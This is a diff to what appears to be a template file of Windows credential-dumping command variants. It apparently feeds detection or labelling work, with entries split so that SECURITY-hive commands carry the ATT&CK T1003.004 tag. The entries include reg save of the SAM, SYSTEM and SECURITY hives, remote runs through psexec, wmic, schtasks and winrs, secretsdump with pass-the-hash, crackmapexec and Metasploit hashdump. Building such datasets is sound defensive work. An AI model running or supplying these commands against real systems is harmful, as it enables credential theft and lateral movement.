@@ -11,8 +11,10 @@ reg-save-security cmd +T1003.004: «reg¦reg.exe¦‹system32›\reg.exe» save 
 reg-save-system cmd: «reg¦reg.exe¦‹system32›\reg.exe» save ‹hklm›\«SYSTEM¦system¦System» ‹file›« /y¦»
 reg-save-chain cmd: reg save ‹hklm›\sam ‹file› «&¦&&» reg save ‹hklm›\system ‹file›« & reg save ‹hklm›\security ‹file›¦»
 reg-save-loop cmd: for %«i¦h¦x¦a» in («sam system security¦SAM SYSTEM¦sam security system¦security sam») do @reg save ‹hklm›\%«i¦h¦x¦a» ‹dir›\%«i¦h¦x¦a».«hiv¦save¦bak»
-reg-save-unc cmd: reg save ‹hklm›\«sam¦security¦system» \\‹server›\«c$¦admin$¦share¦temp¦public»\‹name›.«hiv¦dat¦tmp»
-reg-save-remote-key cmd: reg save \\‹server›\‹hklm›\«SAM¦SECURITY» ‹file›
+reg-save-unc cmd: reg save ‹hklm›\«sam¦system» \\‹server›\«c$¦admin$¦share¦temp¦public»\‹name›.«hiv¦dat¦tmp»
+reg-save-unc-security cmd +T1003.004: reg save ‹hklm›\security \\‹server›\«c$¦admin$¦share¦temp¦public»\‹name›.«hiv¦dat¦tmp»
+reg-save-remote-key cmd: reg save \\‹server›\‹hklm›\SAM ‹file›
+reg-save-remote-key-security cmd +T1003.004: reg save \\‹server›\‹hklm›\SECURITY ‹file›
 reg-export-sam cmd: «reg¦reg.exe» export ‹hklm›\«sam¦SAM¦SAM\SAM¦sam\sam\domains» ‹file›« /y¦»
 reg-export-security cmd +T1003.004: «reg¦reg.exe» export ‹hklm›\«security¦SECURITY¦SECURITY\Policy\Secrets¦security\policy» ‹file›« /y¦»
 regedit-export cmd: «regedit¦regedit.exe¦C:\Windows\regedit.exe» «/e¦-e¦/E¦/s /e» ‹file› "HKEY_LOCAL_MACHINE\«SAM¦SECURITY¦SAM\SAM»"
@@ -21,7 +23,8 @@ reg-query-security-account cmd: «reg¦reg.exe» query ‹hklm›\SECURITY\«SAM
 reg-query-secrets cmd +T1003.004: «reg¦reg.exe» query ‹hklm›\SECURITY\Policy\«Secrets¦Secrets\DPAPI_SYSTEM¦Secrets\$MACHINE.ACC¦PolEKList¦Secrets\_SC_‹name›»« /s¦»‹maybe›
 reg-query-bootkey cmd: reg query ‹hklm›\SYSTEM\CurrentControlSet\Control\Lsa\«JD¦Skew1¦GBG¦Data» & reg save ‹hklm›\SAM ‹file›
 reg-copy-sam cmd: reg copy ‹hklm›\SAM\SAM ‹hklm›\SOFTWARE\‹Word› /s /f
-reg-renamed cmd: ‹dir›\‹name›.exe save ‹hklm›\«sam¦security¦system» ‹file›
+reg-renamed cmd: ‹dir›\‹name›.exe save ‹hklm›\«sam¦system» ‹file›
+reg-renamed-security cmd +T1003.004: ‹dir›\‹name›.exe save ‹hklm›\security ‹file›
 reg-query-remote cmd: reg query \\‹server›\‹hklm›\«SAM\SAM\Domains\Account\Users¦SECURITY\Policy\Secrets» /s
 regini-sam cmd: «subinacl¦setacl.exe¦‹dir›\SetACL.exe» -on "HKLM\«SAM\SAM¦SECURITY»" -ot reg -actn ace -ace "n:«Administrators¦‹user›»;p:full"
 vssadmin-copy-sam cmd: vssadmin create shadow /for=C: «&¦&&» copy ‹vss›\Windows\System32\config\«SAM¦SECURITY¦SYSTEM» ‹file›
@@ -59,7 +62,7 @@ secretsdump-local bash: «secretsdump.py¦impacket-secretsdump¦python3 secretsd
 secretsdump-remote bash: «secretsdump.py¦impacket-secretsdump¦python secretsdump.py» «‹domain›/¦./¦»‹user›:'‹pass›'@‹ip›« -outputfile ‹name›¦»
 secretsdump-hash bash: «secretsdump.py¦impacket-secretsdump» -hashes «aad3b435b51404eeaad3b435b51404ee¦»:‹hash› «‹domain›/¦»‹user›@«‹ip›¦‹server›»« -sam¦ -lsa¦»
 secretsdump-win cmd: «‹dir›\secretsdump.exe¦python secretsdump.py¦py ‹dir›\secretsdump.py» -sam ‹file› -system ‹file›« -security ‹file›¦» LOCAL
-secretsdump-kerberos bash: KRB5CCNAME=‹lfile› «secretsdump.py¦impacket-secretsdump» -k -no-pass ‹server›.‹fqdn› -use-vss
+secretsdump-kerberos bash: KRB5CCNAME=‹lfile› «secretsdump.py¦impacket-secretsdump» -k -no-pass ‹server›.‹fqdn›
 crackmapexec-sam bash: «crackmapexec¦cme¦nxc¦netexec¦poetry run crackmapexec» smb «‹ip›¦‹ip›/24¦‹lfile›» -u «‹user›¦administrator» -p '‹pass›' --sam
 crackmapexec-lsa bash +T1003.004: «crackmapexec¦cme¦nxc¦netexec» «smb¦winrm» ‹ip› -u ‹user› «-p '‹pass›'¦-H ‹hash›»« --local-auth¦» --lsa
 samdump2 bash: «samdump2¦bkhive¦/usr/bin/samdump2» «/mnt/‹word›/Windows/System32/config/SYSTEM /mnt/‹word›/Windows/System32/config/SAM¦‹lfile› ‹lfile›»‹lmaybe›
@@ -69,15 +72,23 @@ smbclient-sam bash: smbclient //‹ip›/C$ -U ‹user›%'‹pass›' -c 'get w
 impacket-reg bash: «reg.py¦impacket-reg» ‹domain›/‹user›:'‹pass›'@‹ip› «save -keyName 'HKLM\\«SAM¦SECURITY¦SYSTEM»' -o '\\\\‹ip›\\share'¦backup -o '\\\\‹ip›\\share'»
 regsecrets bash: «regsecrets.py¦impacket-regsecrets¦python3 regsecrets.py» «‹domain›/¦»‹user›:'‹pass›'@‹ip›
 msf-hashdump bash: msfconsole -q -x "use post/windows/gather/«hashdump¦smart_hashdump¦lsa_secrets¦credentials/credential_collector»; set SESSION ‹n›; run"
-wmic-node-reg cmd: wmic /node:‹server›« /user:‹domain›\‹user› /password:‹pass›¦» process call create "«cmd.exe /c ¦»reg save ‹hklm›\«sam¦security¦system» ‹dir›\‹name›.hiv"
-psexec-reg cmd: «psexec¦psexec.exe¦PsExec64.exe¦‹dir›\PsExec.exe» \\‹server› «-accepteula ¦»-s «cmd /c ¦»reg save ‹hklm›\«sam¦security» ‹file›
+wmic-node-reg cmd: wmic /node:‹server›« /user:‹domain›\‹user› /password:‹pass›¦» process call create "«cmd.exe /c ¦»reg save ‹hklm›\«sam¦system» ‹dir›\‹name›.hiv"
+wmic-node-reg-security cmd +T1003.004: wmic /node:‹server›« /user:‹domain›\‹user› /password:‹pass›¦» process call create "«cmd.exe /c ¦»reg save ‹hklm›\security ‹dir›\‹name›.hiv"
+psexec-reg cmd: «psexec¦psexec.exe¦PsExec64.exe¦‹dir›\PsExec.exe» \\‹server› «-accepteula ¦»-s «cmd /c ¦»reg save ‹hklm›\sam ‹file›
+psexec-reg-security cmd +T1003.004: «psexec¦psexec.exe¦PsExec64.exe¦‹dir›\PsExec.exe» \\‹server› «-accepteula ¦»-s «cmd /c ¦»reg save ‹hklm›\security ‹file›
 psexec-regedit cmd: «psexec¦PsExec64.exe» «-accepteula ¦»-i «-d ¦»-s «regedit.exe¦C:\Windows\regedit.exe» /e ‹file› HKEY_LOCAL_MACHINE\SAM
-schtasks-reg cmd: schtasks /create« /s ‹server›¦» /tn ‹name› /tr "«cmd /c ¦»reg save ‹hklm›\«sam¦security» ‹dir›\‹name›" /sc once /st «00:00¦23:5‹n›» /ru «system¦SYSTEM»
-winrs-reg cmd: winrs -r:‹server›« -u:‹user› -p:‹pass›¦» "reg save ‹hklm›\«sam¦system¦security» ‹dir›\‹name›.dat"
-sc-reg cmd: sc« \\‹server›¦» create ‹name› binPath= "cmd.exe /c reg save ‹hklm›\«SAM¦SECURITY» ‹dir›\‹name›.hiv" type= own
-ssh-reg cmd: ssh ‹user›@‹ip› "reg save ‹hklm›\«sam¦security» C:\‹name›.hiv"
-ps-reg-save powershell: reg«¦.exe» save ‹hklm›\«sam¦security¦system» «$env:TEMP\‹name›.hiv¦‹file›»« -Force¦ /y¦»
-ps-start-process powershell: Start-Process -FilePath "reg.exe" -ArgumentList "save","HKLM\«SAM¦SECURITY¦SYSTEM»","‹dir›\‹name›"« -WindowStyle Hidden¦ -Wait¦ -Verb RunAs»
+schtasks-reg cmd: schtasks /create« /s ‹server›¦» /tn ‹name› /tr "«cmd /c ¦»reg save ‹hklm›\sam ‹dir›\‹name›" /sc once /st «00:00¦23:5‹n›» /ru «system¦SYSTEM»
+schtasks-reg-security cmd +T1003.004: schtasks /create« /s ‹server›¦» /tn ‹name› /tr "«cmd /c ¦»reg save ‹hklm›\security ‹dir›\‹name›" /sc once /st «00:00¦23:5‹n›» /ru «system¦SYSTEM»
+winrs-reg cmd: winrs -r:‹server›« -u:‹user› -p:‹pass›¦» "reg save ‹hklm›\«sam¦system» ‹dir›\‹name›.dat"
+winrs-reg-security cmd +T1003.004: winrs -r:‹server›« -u:‹user› -p:‹pass›¦» "reg save ‹hklm›\security ‹dir›\‹name›.dat"
+sc-reg cmd: sc« \\‹server›¦» create ‹name› binPath= "cmd.exe /c reg save ‹hklm›\SAM ‹dir›\‹name›.hiv" type= own
+sc-reg-security cmd +T1003.004: sc« \\‹server›¦» create ‹name› binPath= "cmd.exe /c reg save ‹hklm›\SECURITY ‹dir›\‹name›.hiv" type= own
+ssh-reg cmd: ssh ‹user›@‹ip› "reg save ‹hklm›\sam C:\‹name›.hiv"
+ssh-reg-security cmd +T1003.004: ssh ‹user›@‹ip› "reg save ‹hklm›\security C:\‹name›.hiv"
+ps-reg-save powershell: reg«¦.exe» save ‹hklm›\«sam¦system» «$env:TEMP\‹name›.hiv¦‹file›»« -Force¦ /y¦»
+ps-reg-save-security powershell +T1003.004: reg«¦.exe» save ‹hklm›\security «$env:TEMP\‹name›.hiv¦‹file›»« -Force¦ /y¦»
+ps-start-process powershell: Start-Process -FilePath "reg.exe" -ArgumentList "save","HKLM\«SAM¦SYSTEM»","‹dir›\‹name›"« -WindowStyle Hidden¦ -Wait¦ -Verb RunAs»
+ps-start-process-security powershell +T1003.004: Start-Process -FilePath "reg.exe" -ArgumentList "save","HKLM\SECURITY","‹dir›\‹name›"« -WindowStyle Hidden¦ -Wait¦ -Verb RunAs»
 ps-foreach-hives powershell: "sam","system","security" | «%¦ForEach-Object¦foreach» { «reg save HKLM\$_ "$env:TEMP\$_.hiv"¦& reg.exe save "HKLM\$_" "‹dir›\$_"¦reg export "HKLM\$_" "‹dir›\$_.reg" /y» }
 ps-get-item-sam powershell: «Get-ItemProperty¦gp¦Get-ChildItem¦gci¦ls» «-Path ¦»«HKLM:\SAM\SAM\Domains\Account\Users\*¦'HKLM:\SAM\SAM\Domains\Account\Users'¦Registry::HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account»« -Recurse¦ | Select-Object V, F¦ | Format-List *¦»
 ps-get-item-secrets powershell +T1003.004: «Get-ItemProperty¦Get-ChildItem¦gci» «HKLM:\SECURITY\Policy\Secrets¦"Registry::HKLM\SECURITY\Policy\Secrets\*"¦HKLM:\SECURITY\Policy\PolEKList¦'HKLM:\SECURITY\Policy\Secrets\$MACHINE.ACC\CurrVal'»« -Recurse¦»
@@ -93,8 +104,10 @@ ps-ninjacopy powershell: Invoke-NinjaCopy -Path "‹config›\«SAM¦sam¦SYSTEM
 ps-vss-copy powershell: $«v¦s» = (Get-WmiObject -List Win32_ShadowCopy).Create("C:\","ClientAccessible"); cmd /c copy "‹vss›\Windows\System32\config\«SAM¦SECURITY¦SYSTEM»" ‹file›
 ps-copy-shadow powershell: «Copy-Item¦cp¦[System.IO.File]::Copy»«(¦ »'‹vss›\Windows\System32\config\«SAM¦SECURITY¦SYSTEM»'«,¦ »'‹dir›\‹name›'
 ps-copy-config powershell: «Copy-Item¦cp¦copy» ‹config›\«SAM¦SECURITY¦RegBack\SAM» -Destination «‹dir›¦$env:TEMP»
-ps-invoke-command powershell: Invoke-Command -ComputerName ‹server›« -Credential $«c¦cred»¦» -ScriptBlock { reg save HKLM\«SAM¦SECURITY¦SYSTEM» ‹file› }
-ps-wmi-create powershell: Invoke-WmiMethod -ComputerName ‹server› -Class Win32_Process -Name Create -ArgumentList "«cmd /c ¦»reg save HKLM\«SAM¦SECURITY» ‹dir›\‹name›"
+ps-invoke-command powershell: Invoke-Command -ComputerName ‹server›« -Credential $«c¦cred»¦» -ScriptBlock { reg save HKLM\«SAM¦SYSTEM» ‹file› }
+ps-invoke-command-security powershell +T1003.004: Invoke-Command -ComputerName ‹server›« -Credential $«c¦cred»¦» -ScriptBlock { reg save HKLM\SECURITY ‹file› }
+ps-wmi-create powershell: Invoke-WmiMethod -ComputerName ‹server› -Class Win32_Process -Name Create -ArgumentList "«cmd /c ¦»reg save HKLM\SAM ‹dir›\‹name›"
+ps-wmi-create-security powershell +T1003.004: Invoke-WmiMethod -ComputerName ‹server› -Class Win32_Process -Name Create -ArgumentList "«cmd /c ¦»reg save HKLM\SECURITY ‹dir›\‹name›"
 ps-cim-stdreg powershell: ([wmiclass]"\\‹server›\root\default:StdRegProv").«EnumKey(2147483650,"SAM\SAM\Domains\Account\Users").sNames¦GetBinaryValue(2147483650,"SAM\SAM\Domains\Account","V")¦EnumKey(2147483650,"SECURITY\Policy\Secrets").sNames»
 ps-acl-sam powershell: $acl = Get-Acl "HKLM:\«SAM\SAM¦SECURITY»"; $acl.SetAccessRule((New-Object System.Security.AccessControl.RegistryAccessRule("‹user›","FullControl","Allow"))); Set-Acl -Path "HKLM:\«SAM\SAM¦SECURITY»" $acl
 ps-regsavekey powershell: Add-Type -MemberDefinition '[DllImport("advapi32.dll")] public static extern int RegSaveKey(IntPtr hKey, string f, IntPtr s);' -Name ‹Word› -Namespace W; [W.‹Word›]::RegSaveKey($«hSam¦k», "‹dir›\‹name›", 0) # SAM
